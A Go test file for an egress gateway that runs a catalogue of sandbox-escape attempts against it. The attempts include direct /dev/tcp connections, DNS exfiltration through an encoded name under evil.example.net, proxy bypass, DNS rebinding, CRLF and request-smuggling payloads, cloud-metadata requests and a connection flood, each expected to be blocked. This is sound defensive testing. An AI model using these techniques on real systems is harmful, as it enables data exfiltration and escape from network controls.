package egress

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"net/http"
	"slices"
	"strings"
	"testing"

	"nanoclaw/internal/config"
)

// TestNetworkCatalogue attacks the way out from inside a real boundary, one line
// for each known attempt that scripts can make. For each: what the attacker gets
// to see, and that neither a name server nor any host noticed. The numbers are
// those of the tests beside this one, which try the same at the gateway with
// bytes that no program would send.
func TestNetworkCatalogue(t *testing.T) {
	w := newWorld(t)
	outside := w.everything(t, []string{"www.example.com", "hole.example.com"}, http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		io.WriteString(rw, "reached "+r.Host)
	}))
	w.names["rebound.example.com."] = []string{"127.0.0.1", "169.254.169.254", "10.0.0.1"}
	// Something of this machine that must not be reached.
	secret := tcpServer(t, func(c net.Conn) { io.WriteString(c, "SECRET\n") })
	_, port, _ := net.SplitHostPort(secret)
	c := config1(nil, "www.example.com", "*.wild.example.com", "rebound.example.com", "hole.example.com")
	c.Egress.Deny = []string{"hole.example.com"}
	i := w.start(t, outside, c)

	curl := func(args string) string { return "curl -sS --max-time 20 " + args }
	raw := func(text string) string {
		return fmt.Sprintf(`exec 3<>/dev/tcp/127.0.0.1/3128; printf '%s' >&3; cat <&3`, text)
	}
	tests := []struct {
		name, script string
		want         string
		fails        bool
	}{
		{"control arm: a granted host", curl("https://www.example.com/"), "reached www.example.com", false},
		{"N-01 direct TCP", "exec 3<>/dev/tcp/1.1.1.1/443", "unreachable", true},
		{"N-02 direct UDP", "exec 3<>/dev/udp/1.1.1.1/53", "unreachable", true},
		{"N-03 a name that carries data", "getent hosts c2VjcmV0.evil.example.net", "", true},
		{"N-03 the same by the proxy", curl("https://c2VjcmV0.evil.example.net/"), "403", true},
		{"N-04 without the proxy", "env -u HTTPS_PROXY -u https_proxy " + curl("https://www.example.com/"), "Could not resolve", true},
		{"N-06 lookalike in front", curl("https://evilwww.example.com/"), "403", true},
		{"N-06 lookalike behind", curl("https://www.example.com.evil.test/"), "403", true},
		{"N-06 apex of a wildcard", curl("https://wild.example.com/"), "403", true},
		{"N-08 line feed in a name", raw(`CONNECT www.example.com\nX: y HTTP/1.1\r\nHost: x\r\n\r\n`), "400", false},
		{"N-08 zone that looks like a name", raw(`CONNECT [::ffff:127.0.0.1%%x.www.example.com]:443 HTTP/1.1\r\nHost: x\r\n\r\n`), "403", false},
		{"N-09 a number", curl("--noproxy '' http://2130706433/"), "IP address", false},
		{"N-09 hexadecimal", raw(`GET http://0x7f.1:` + port + `/ HTTP/1.1\r\nHost: x\r\n\r\n`), "IP address", false},
		{"N-09 mapped", curl("'http://[::ffff:7f00:1]/'"), "IP address", false},
		{"N-10 case and dot, same verdict", curl("https://WWW.Example.COM./"), "reached", false},
		{"N-11 rebinding", curl("https://rebound.example.com/"), "403", true},
		{"N-12 fronting by name", curl("--connect-to evil.test:443:www.example.com:443 https://evil.test/"), "unrecognized name", true},
		{"N-13 another port", curl("https://www.example.com:8443/"), "403", true},
		{"N-14 no TLS in the tunnel", raw(`CONNECT www.example.com:443 HTTP/1.1\r\nHost: www.example.com:443\r\n\r\nSSH-2.0-x\r\n`), "200 Connection established", false},
		{"N-15 target and Host differ", raw(`GET http://www.example.com:8080/ HTTP/1.1\r\nHost: evil.test\r\n\r\n`), "400", false},
		{"N-15 two lengths", raw(`POST http://www.example.com:8080/ HTTP/1.1\r\nHost: www.example.com:8080\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n`), "400", false},
		{"N-16 plain HTTP", curl("http://www.example.com/"), "not in the grant", false},
		{"N-23 forged identity", curl("--proxy-user 'main:token' https://evil.test/"), "403", true},
		{"N-28 a service of this machine", "exec 3<>/dev/tcp/127.0.0.1/" + port + " && cat <&3", "refused", true},
		{"N-28 the same by the proxy", curl("http://localhost:" + port + "/ --noproxy ''"), "not in the grant", false},
		{"N-29 metadata", curl("-H 'X-aws-ec2-metadata-token: x' http://169.254.169.254/latest"), "IP address", false},
		{"N-32 IPv6", "exec 3<>/dev/tcp/2606:4700::1111/443", "unreachable", true},
		{"denied, although granted", curl("https://hole.example.com/"), "403", true},
	}
	for _, tt := range tests {
		out, code := i.sh(tt.script)
		if !strings.Contains(out, tt.want) || (code != 0) != tt.fails || strings.Contains(out, "SECRET") {
			t.Errorf("%s: ended with %d:\n%s\nwant %q", tt.name, code, out, tt.want)
		}
	}
	i.g.Close()
	lookups, dials, events := w.seen()
	for _, name := range lookups {
		if !slices.Contains([]string{"www.example.com.", "rebound.example.com."}, name) {
			t.Errorf("the name service was asked for %s", name)
		}
	}
	for _, to := range dials {
		if to != "93.184.216.34:443" {
			t.Errorf("%s was dialled", to)
		}
	}
	for _, e := range events {
		if e.Phase == Close && e.Verdict == Allowed && e.Host != "www.example.com" {
			t.Errorf("event %+v", e)
		}
	}
}

// TestManyConnects opens ten thousand tunnels from inside: all are
// answered, most of them in words that there are too many or that the budget is
// used up; the gateway holds no more at a time than it may, and the audit has
// them all.
func TestManyConnects(t *testing.T) {
	w := newWorld(t)
	outside := w.everything(t, []string{"www.example.com"}, http.NotFoundHandler())
	c := config1(nil, "www.example.com")
	c.Egress.Connections = 50
	i := w.start(t, outside, c)
	i.g.pace = pace{interval: 1, burst: 1 << 30} // the pace is TestFloods' matter
	script := `import socket
ok = spent = other = 0
for _ in range(10000):
    s = socket.create_connection(("127.0.0.1", 3128))
    s.sendall(b"CONNECT www.example.com:443 HTTP/1.1\r\nHost: www.example.com:443\r\n\r\n")
    b = s.recv(4096)
    ok, spent, other = ok + (b" 200 " in b), spent + (b"used up" in b), other + (b" 200 " not in b and b"used up" not in b)
    s.close()
print(ok, spent, other)`
	out, code := i.run("/usr/bin/python3", "-c", script)
	if strings.TrimSpace(out) != "50 9950 0" || code != 0 {
		t.Fatalf("tunnels, refusals, others: %s (%d)", out, code)
	}
	i.g.Close()
	closes := 0
	_, dials, events := w.seen()
	for _, e := range events {
		if e.Phase == Close {
			closes++
		}
	}
	if len(dials) != 50 || closes != 10000 || !i.g.Stale() {
		t.Errorf("%d connections, %d Close events", len(dials), closes)
	}
}

// TestHostsFileInside: a line of the configuration in place of a hosts file leads
// to a service of this machine, on purpose, by name and port and by nothing else.
func TestHostsFileInside(t *testing.T) {
	w := newWorld(t)
	outside := w.everything(t, nil, http.NotFoundHandler())
	service := tcpServer(t, func(c net.Conn) {
		http.ReadRequest(bufio.NewReader(c)) // else closing it takes back what was said
		io.WriteString(c, "HTTP/1.0 200 OK\r\n\r\nfrom the service")
	})
	_, port, _ := net.SplitHostPort(service)
	w.servers["127.0.0.1:"+port] = service
	c := config1(map[string]config.EgressHost{"nas.lan:" + port: {Address: "127.0.0.1"}}, "nas.lan:"+port, "www.lan:"+port)
	i := w.start(t, outside, c)
	out, code := i.sh("curl -sS http://nas.lan:" + port + "/")
	contains(t, out, code, 0, "from the service")
	for _, url := range []string{"http://127.0.0.1:" + port, "http://www.lan:" + port, "http://nas.lan:1"} {
		if out, _ := i.sh("curl -sS --noproxy '' " + url + "/"); strings.Contains(out, "from the service") {
			t.Errorf("%s: %s", url, out)
		}
	}
	if _, dials, _ := w.seen(); !slices.Equal(dials, []string{"127.0.0.1:" + port}) {
		t.Errorf("dialled %q", dials)
	}
}
